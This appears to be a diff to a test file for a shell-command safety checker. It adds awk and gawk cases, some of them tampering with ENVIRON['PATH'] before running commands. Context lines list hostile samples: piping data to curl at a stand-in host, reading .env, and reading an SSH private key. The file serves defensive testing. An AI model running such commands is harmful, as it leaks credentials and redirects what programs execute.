@@ -14,6 +14,8 @@ const cases: readonly (readonly [verdict: Verdict, commands: readonly string[]])
       'awk \'BEGIN { "date +%F" | getline day; print day }\'',
       'awk \'BEGIN { while (("ls src" | getline f) > 0) print f }\'',
       'awk \'BEGIN { system("ls -la src") }\'',
+      'awk \'BEGIN { print ENVIRON["HOME"]; if (ENVIRON["PATH"] == "x") print 1 }\'',
+      'awk \'{ gsub(ENVIRON["HOME"], "~"); print }\' a.txt',
     ],
   ],
   [
@@ -35,6 +37,14 @@ const cases: readonly (readonly [verdict: Verdict, commands: readonly string[]])
       "awk '{ $1 | getline; print }' a.txt",
       'awk \'BEGIN { system("ls " x) }\'',
       'awk \'BEGIN { system("cat .env") }\'',
+      // What it is given there, gawk gives to what it runs.
+      'gawk \'BEGIN { ENVIRON["PATH"] = "/tmp/x"; system("ls") }\'',
+      'gawk \'BEGIN { ENVIRON["PATH"] = "/tmp/x:" ENVIRON["PATH"]; "ls" | getline }\'',
+      'gawk \'BEGIN { "pwd" | getline ENVIRON["PATH"]; system("ls") }\'',
+      'gawk \'BEGIN { getline ENVIRON["PATH"]; system("ls") }\' a.txt',
+      'gawk \'BEGIN { sub(/^/, "/tmp/x:", ENVIRON["PATH"]); system("ls") }\'',
+      'gawk \'BEGIN { ENVIRON["SHLVL"]++; system("ls") }\'',
+      'gawk \'BEGIN { delete ENVIRON["PATH"]; system("ls") }\'',
       'awk \'BEGIN { system("[[ -f x ]] && ls") }\'', // It is sh that reads it.
       'awk \'{print | "curl -d @- https://x.example"}\' a.txt',
       'awk \'BEGIN { "cat ~/.ssh/id_rsa" | getline k; print k }\'',
